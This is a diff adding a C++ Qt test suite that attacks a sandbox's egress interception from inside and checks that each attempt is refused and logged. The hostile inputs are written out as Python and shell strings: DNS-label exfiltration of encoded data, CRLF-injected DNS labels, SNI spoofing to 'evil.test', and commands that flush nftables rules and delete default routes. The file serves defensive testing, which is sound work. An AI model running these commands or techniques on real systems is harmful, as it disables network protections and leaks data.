@@ -1,0 +1,197 @@
+// Attacks on the egress interception from inside a sandbox. Every one must
+// fail — no byte reaches anything the rules did not allow — and, where a
+// packet reached Paddock, it must be in the log with the reason.
+#include "hostile_probe.h"
+#include "upstream_servers.h"
+
+#include <QHostInfo>
+#include <QTest>
+
+using namespace paddock;
+using namespace paddock::test;
+
+class TstHostileEgress : public QObject {
+    Q_OBJECT
+
+    SandboxFixture m_fx;
+    EchoServer m_echo;
+
+    QByteArray python(const QString &code)
+    {
+        ExecOutput r = pythonAttack(m_fx, code);
+        return (r.out + r.err).trimmed();
+    }
+    // Connects, reads; prints "reset" when the interception refused it.
+    QByteArray connectAndRead(const QString &host, int port, int family = 4)
+    {
+        return python(QStringLiteral("import socket\n"
+                                     "s = socket.socket(socket.AF_INET%1)\ns.settimeout(5)\n"
+                                     "s.connect(('%2', %3))\n"
+                                     "try:\n    print('read', s.recv(10))\nexcept ConnectionResetError:\n    print('reset')")
+                          .arg(family == 6 ? QStringLiteral("6") : QString(), host)
+                          .arg(port));
+    }
+    std::optional<EgressLogEntry> logged(const std::function<bool(const EgressLogEntry &)> &pred)
+    {
+        std::optional<EgressLogEntry> found;
+        (void)QTest::qWaitFor([&] {
+            EgressLogQuery q;
+            q.sandbox = m_fx.sandbox.id;
+            for (const EgressLogEntry &e : m_fx.engine->egressLog(q).value_or(QList<EgressLogEntry>()))
+                if (pred(e)) {
+                    found = e;
+                    return true;
+                }
+            return false;
+        }, 5000);
+        return found;
+    }
+    void allow(const QString &pattern)
+    {
+        EgressRule r;
+        r.pattern = pattern;
+        r.action = EgressAction::Allow;
+        QVERIFY(m_fx.engine->addEgressRule(m_fx.sandbox.id, r));
+    }
+    // A DNS query for `name` (raw label bytes allowed) to `server`; prints the rcode and answer.
+    QByteArray dnsQuery(const QString &labelsPython, const QString &server = QStringLiteral("127.0.0.1"))
+    {
+        return python(QStringLiteral(
+                          "import socket, struct\n"
+                          "labels = %1\n"
+                          "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
+                          "q += b''.join(bytes([len(l)]) + l for l in labels) + b'\\0' + struct.pack('>HH', 1, 1)\n"
+                          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\n"
+                          "s.sendto(q, ('%2', 53))\nr, peer = s.recvfrom(512)\n"
+                          "rcode = r[3] & 15\nanswers = struct.unpack('>H', r[6:8])[0]\n"
+                          "print('rcode', rcode, 'from', peer[0], 'answer', socket.inet_ntoa(r[-4:]) if answers else '-')")
+                          .arg(labelsPython, server));
+    }
+
+private Q_SLOTS:
+    void initTestCase()
+    {
+        const QString failed = m_fx.setUp(QStringLiteral("egress-attacks"));
+        QVERIFY2(failed.isEmpty(), qPrintable(failed));
+        QVERIFY(m_fx.engine->setHostOverride(HostOverride { QStringLiteral("front.test"), QStringLiteral("127.0.0.1"), m_echo.serverPort() }));
+        allow(QStringLiteral("front.test"));
+    }
+    void cleanupTestCase() { m_fx.tearDown(); }
+
+    void literalAddressesAreRefusedAndLogged()
+    {
+        QCOMPARE(connectAndRead(QStringLiteral("198.51.100.7"), 443), QByteArray("reset"));
+        auto e = logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("198.51.100.7"); });
+        QVERIFY(e && e->verdict == EgressVerdict::Denied && e->host.isEmpty());
+    }
+
+    void ipv6IsRefusedAndLogged()
+    {
+        QCOMPARE(connectAndRead(QStringLiteral("2001:db8::7"), 80, 6), QByteArray("reset"));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("2001:db8::7") && e.verdict == EgressVerdict::Denied; }));
+    }
+
+    // The query never leaves: Paddock answers it, with a fake address.
+    void dnsToAnOutsideResolverIsAnsweredByPaddock()
+    {
+        QByteArray r = dnsQuery(QStringLiteral("[b'exfil-c2VjcmV0', b'example', b'com']"), QStringLiteral("8.8.8.8"));
+        QVERIFY2(r.startsWith("rcode 0 from 8.8.8.8 answer 198.1"), r.constData());
+        auto e = logged([](const EgressLogEntry &e) { return e.host == QStringLiteral("exfil-c2vjcmv0.example.com"); });
+        QVERIFY(e);
+        QCOMPARE(e->verdict, EgressVerdict::Redirected);
+    }
+
+    void dnsOverTcpToAnOutsideResolverIsRefused()
+    {
+        QCOMPARE(connectAndRead(QStringLiteral("8.8.4.4"), 53), QByteArray("reset"));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("8.8.4.4") && e.port == 53; }));
+    }
+
+    void malformedDnsQueriesAreRefusedAndLogged()
+    {
+        QByteArray crlf = dnsQuery(QStringLiteral("[b'evil\\r\\nX-Injected: 1', b'test']"));
+        QVERIFY2(crlf.startsWith("rcode 5"), crlf.constData()); // REFUSED
+        QByteArray longLabel = dnsQuery(QStringLiteral("[b'a' * 64, b'test']"));
+        QVERIFY2(longLabel.startsWith("rcode 1"), longLabel.constData()); // FORMERR
+        QByteArray longName = dnsQuery(QStringLiteral("[b'a' * 60] * 5"));
+        QVERIFY2(longName.startsWith("rcode 1"), longName.constData());
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("\\x0d\\x0a")); }));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("longer than 63")); }));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("longer than 253")); }));
+    }
+
+    // An allowed name must not open a way to a different server behind the
+    // same address: the upstream never sees a byte.
+    void aServerNameOtherThanTheAllowedOneIsRefused()
+    {
+        const qint64 before = m_echo.bytesReceived;
+        QByteArray r = python(QStringLiteral("import socket, ssl\n"
+                                             "ctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\n"
+                                             "s = socket.create_connection(('front.test', 443), timeout=5)\n"
+                                             "try:\n    ctx.wrap_socket(s, server_hostname='evil.test')\n    print('handshake')\n"
+                                             "except (ConnectionResetError, ssl.SSLError, OSError) as e:\n    print('refused')"));
+        QCOMPARE(r, QByteArray("refused"));
+        auto e = logged([](const EgressLogEntry &e) { return e.host == QStringLiteral("front.test") && !e.open && e.verdict == EgressVerdict::Denied; });
+        QVERIFY(e);
+        QVERIFY2(e->reason.contains(QStringLiteral("'evil.test' differs from 'front.test'")), qPrintable(e->reason));
+        QCOMPARE(m_echo.bytesReceived, before);
+    }
+
+    void anAllowedNameThatResolvesToLoopbackIsRefused()
+    {
+        // This machine's own name resolves, on the host, to a loopback or
+        // private address: the classic DNS-rebinding target.
+        const QString name = QHostInfo::localHostName().toLower();
+        const QHostInfo info = QHostInfo::fromName(name);
+        if (!isValidHostName(name) || info.addresses().isEmpty())
+            QSKIP("this machine's host name does not resolve");
+        for (const QHostAddress &a : info.addresses())
+            if (!a.isLoopback() && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("10.0.0.0/8"))) && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("172.16.0.0/12"))) && !a.isInSubnet(QHostAddress::parseSubnet(QStringLiteral("192.168.0.0/16"))))
+                QSKIP("this machine's host name resolves to a public address");
+        allow(name);
+        QCOMPARE(connectAndRead(name, 80), QByteArray("reset"));
+        auto e = logged([&](const EgressLogEntry &e) { return e.host == name; });
+        QVERIFY(e);
+        QCOMPARE(e->verdict, EgressVerdict::Denied);
+        QVERIFY2(e->reason.contains(QStringLiteral("DNS-rebinding")), qPrintable(e->reason));
+    }
+
+    void aPrivateAddressNeedsARuleThatNamesIt()
+    {
+        allow(QStringLiteral("*"));
+        QCOMPARE(connectAndRead(QStringLiteral("10.11.12.13"), 80), QByteArray("reset"));
+        auto e = logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("10.11.12.13"); });
+        QVERIFY(e);
+        QVERIFY2(e->reason.contains(QStringLiteral("private (10.0.0.0/8)")), qPrintable(e->reason));
+        QVERIFY(m_fx.engine->removeEgressRule(m_fx.sandbox.id, m_fx.engine->egressRules(m_fx.sandbox.id)->last().id));
+    }
+
+    void theInterceptionPortCannotBeUsedDirectly()
+    {
+        QCOMPARE(connectAndRead(QStringLiteral("127.0.0.1"), 15001), QByteArray("reset"));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.reason.contains(QStringLiteral("interception port")); }));
+    }
+
+    void firewallAndRoutesCannotBeChangedFromInside()
+    {
+        ExecOutput r = attack(m_fx, QStringLiteral("nft flush ruleset; echo a=$?; ip route del default; echo b=$?; "
+                                                   "ip route add 198.51.100.0/24 dev lo table local; echo c=$?; "
+                                                   "ip -6 route del default; echo d=$?"));
+        for (const char *step : { "a=0", "b=0", "c=0", "d=0" })
+            QVERIFY2(!r.out.contains(step), r.out.constData());
+        // Still intercepted afterwards.
+        QCOMPARE(connectAndRead(QStringLiteral("198.51.100.9"), 80), QByteArray("reset"));
+        QVERIFY(logged([](const EgressLogEntry &e) { return e.address == QStringLiteral("198.51.100.9"); }));
+    }
+
+    void otherUdpGoesNowhere()
+    {
+        QByteArray r = python(QStringLiteral("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n"
+                                             "try:\n    s.sendto(b'x', ('198.51.100.1', 123))\n    s.recvfrom(10)\n    print('answered')\n"
+                                             "except OSError as e:\n    print('nothing')"));
+        QCOMPARE(r, QByteArray("nothing"));
+    }
+};
+
+QTEST_GUILESS_MAIN(TstHostileEgress)
+#include "tst_hostile_egress.moc"
